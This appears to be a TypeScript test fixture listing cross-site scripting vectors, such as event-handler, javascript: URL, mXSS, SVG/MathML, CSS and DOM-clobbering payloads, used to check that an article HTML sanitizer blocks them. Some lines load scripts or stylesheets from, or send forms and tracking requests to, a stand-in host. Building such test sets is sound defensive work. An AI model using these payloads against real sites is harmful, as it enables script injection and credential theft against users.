/** What somebody could put into an article so that a script runs: `ran()` tells. */
export interface Vector {
  readonly html: string;
  /** Runs in every engine when nothing stands in its way, so the harness must see it. */
  readonly live?: true;
}

const live = (html: string): Vector => ({html, live: true});
const still = (html: string): Vector => ({html});

/** Base64 of `<script>parent.ran()</script>`. */
const script64 = 'PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=';

export const vectors: Readonly<Record<string, readonly Vector[]>> = {
  base: [
    still('<base href="https://xau.example/"><a href="tin/1">Tin</a>'),
    still('<base target="ran()"><a href="/tin/1" target="_top">Tin</a>'),
  ],
  'css-attribute': [
    still('<p style="position:fixed;inset:0;z-index:9999;background:red">Phủ cả trang</p>'),
    still('<p style="background:url(https://xau.example/dau-vet)">Dấu vết</p>'),
    still('<p style="color:var(--x);width:expression(ran())">Biểu thức</p>'),
    still('<p style="-moz-binding:url(//xau.example/x.xml#x);behavior:url(x.htc)">Ràng buộc</p>'),
    still('<td style="color:red;}</style><img src=x onerror=ran()>">Ô</td>'),
    still(
      '<p style="content:attr(title);background-image:image-set(\'//xau.example/a\' 1x)">a</p>',
    ),
  ],
  'css-element': [
    still('<style>@import "https://xau.example/a.css"; * {display: none}</style><p>Chữ</p>'),
    still('<style>[part=title]{background:url(//xau.example/?a)}</style>'),
    still('<link rel="stylesheet" href="https://xau.example/a.css"><p>Chữ</p>'),
    live('<style onload="ran()">a{}</style>'),
  ],
  'dom-clobbering': [
    still('<form id="document"><input name="cookie"><input name="body"></form>'),
    still('<img name="portalWidgets"><a id="portalWidgets" href="x:ran()">a</a>'),
    live('<form onclick="ran()"><input name="attributes"><input name="childNodes">a</form>'),
    live('<form onclick="ran()"><input name="parentNode"><input name="nodeName">a</form>'),
    still('<a id="config"></a><a id="config" name="url" href="https://xau.example/">a</a>'),
  ],
  'event-handler': [
    still(`<p><img src onerror /" '"= alt="ran()">Ảnh</p>`),
    live('<img src="x" onerror="ran()">'),
    still('<img src=x onerror=ran()//'),
    live('<p onclick="ran()">Bấm</p>'),
    live('<b onmouseover=ran()>Rê</b>'),
    live('<details open ontoggle="ran()"><summary>a</summary>b</details>'),
    live('<video src="x" onerror="ran()"></video>'),
    live('<audio src=x onerror=ran()></audio>'),
    live('<img/src/onerror=ran()>'),
    live('<a href="#" onfocus="ran()">a</a>'),
    live('<table><td background="x" onanimationend="ran()">a</td></table>'),
    live('<marquee onpointerover="ran()">a</marquee>'),
    live('<ABBR OnClIcK="&#114;an()">a</ABBR>'),
    live('<x-la onmousedown=ran()>a</x-la>'),
  ],
  forms: [
    live('<form action="javascript:ran()"><button>Gửi</button></form>'),
    live('<form><button formaction="javascript:ran()">Gửi</button></form>'),
    live('<form><input type="image" formaction="javascript:ran()"></form>'),
    still('<form action="https://xau.example/"><input name="mat-khau" type="password"></form>'),
    still(
      '<input form="aspnetForm" name="__VIEWSTATE" value="a"><button form="aspnetForm">a</button>',
    ),
    live('<input autofocus onfocus="ran()">'),
    live('<select onfocusin="ran()"><option>a</option></select>'),
    still('<isindex action="javascript:ran()" type="submit">'),
  ],
  'frames-plugins': [
    live('<iframe srcdoc="<script>parent.ran()</script>"></iframe>'),
    live('<iframe src="javascript:parent.ran()"></iframe>'),
    still(`<iframe src="data:text/html;base64,${script64}"></iframe>`),
    still('<iframe src="https://www.youtube.com.xau.example/embed/abcdefghijk"></iframe>'),
    still('<iframe src="https://xau.example/?https://www.youtube.com/embed/abcdefghijk"></iframe>'),
    still('<iframe src="https://www.youtube.com/embed/../redirect?q=javascript:ran()"></iframe>'),
    still(`<object data="data:text/html;base64,${script64}"></object>`),
    still('<embed src="javascript:ran()"><applet code="x"></applet>'),
    live('<iframe onload="ran()"></iframe>'),
    still('<frameset onload="ran()"><frame src="javascript:ran()"></frameset>'),
    still('<portal src="https://xau.example/"></portal><fencedframe></fencedframe>'),
  ],
  'id-name': [
    still('<div id="portal-widgets-status" role="alert">Giả</div>'),
    still('<p id="main" name="main" class="navbar" part="title" slot="error">a</p>'),
    still('<label for="q" itemscope itemprop="x" data-portal-endpoint="//xau.example">a</label>'),
  ],
  mathml: [
    live('<math><mtext onclick="ran()">a</mtext></math>'),
    still('<math href="javascript:ran()">a</math>'),
    live(
      '<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>',
    ),
    still(
      '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
    ),
  ],
  meta: [
    still('<meta http-equiv="refresh" content="0;url=javascript:ran()">'),
    still(
      '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">',
    ),
    still('<meta charset="utf-7">+ADw-script+AD4-ran()+ADw-/script+AD4-'),
  ],
  mxss: [
    live('<svg><style><img src=x onerror=ran()></style></svg>'),
    live('<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>'),
    still(
      '<textarea><p title="</textarea><img src=x onerror=ran()>"></textarea><xmp><p id="</xmp><img src=x onerror=ran()>"></xmp>',
    ),
    still(
      '<math><mtext><form><form></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=ran() src>"></style>',
    ),
    live('<svg></p><title><a title="</title><img src=x onerror=ran()>">a</svg>'),
    still('<listing>&lt;img src=x onerror=ran()&gt;</listing><plaintext><img src=x onerror=ran()>'),
    still('<template><img src=x onerror=ran()></template><p>a</p>'),
    still('<!--><img src=x onerror=ran()>--><![CDATA[<img src=x onerror=ran()>]]>'),
  ],
  other: [
    still(
      '<video controls><track default onload="ran()" src="data:text/vtt,WEBVTT"></video><p>Phim</p>',
    ),
    still('<portal-news-list endpoint="https://xau.example"></portal-news-list>'),
    still('<p is="portal-news-list">a</p><div data-portal-widget="news-list">a</div>'),
    live('<p popover onbeforetoggle="ran()" onkeydown="ran()">a</p>'),
    still('<dialog open>Đăng nhập lại</dialog><slot name="error">a</slot>'),
    still('<a href="https://xau.example" ping="https://xau.example/ping" target="_blank">a</a>'),
    still('<p contenteditable tabindex="1" accesskey="x" draggable="true" autofocus>a</p>'),
  ],
  parser: [
    still('<?xml version="1.0"?><?xml-stylesheet href="javascript:ran()"?><p>a</p>'),
    still('<!DOCTYPE x [<!ENTITY y "ran()">]><p>&y;</p>'),
    still('<p\u0000onclick=ran()>a</p><\u0000script>ran()</script>'),
    still('</p></div></section></article><p>Ngoài</p>'),
  ],
  script: [
    still('<script>ran()</script>'),
    still('<script src="https://xau.example/a.js"></script><SCRIPT/X>ran()</SCRIPT>'),
    still('<scr<script>ipt>ran()</scr</script>ipt>'),
    still('<script type="module">ran()</script><script type="application/ld+json">{}</script>'),
  ],
  svg: [
    still('<svg onload="ran()"></svg>'),
    live('<svg onmouseover="ran()"></svg>'),
    live('<svg><a onclick="ran()"><text y="20">a</text></a></svg>'),
    still('<svg><a xlink:href="javascript:ran()"><text y="20">a</text></a></svg>'),
    live('<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>'),
    still(
      '<svg><set attributeName="onmouseover" to="ran()"/><use href="data:image/svg+xml,x#x"/></svg>',
    ),
    still('<svg><script>ran()</script><script href="data:,ran()"/></svg>'),
  ],
  'url-scheme': [
    live('<a href="javascript:ran()">a</a>'),
    live('<a href="&#1;java&#10;scr&Tab;ipt:ran()">a</a>'),
    live('<a href="JaVaScRiPt://%0aran()">a</a>'),
    still('<a href="vbscript:ran()">a</a><a href="data:text/html,<script>ran()</script>">a</a>'),
    still(
      '<a href="blob:https://a/b">a</a><a href="intent://x#Intent;end">a</a><a href="file:///c:/">a</a>',
    ),
    still(`<img src="data:image/svg+xml;base64,${script64}"><img src="javascript:ran()">`),
    still('<img srcset="javascript:ran() 1x"><video poster="javascript:ran()"></video>'),
    still(
      '<blockquote cite="javascript:ran()">a</blockquote><img longdesc="javascript:ran()" usemap="#x">',
    ),
    live('<map name="x"><area href="javascript:ran()"></map>'),
  ],
};
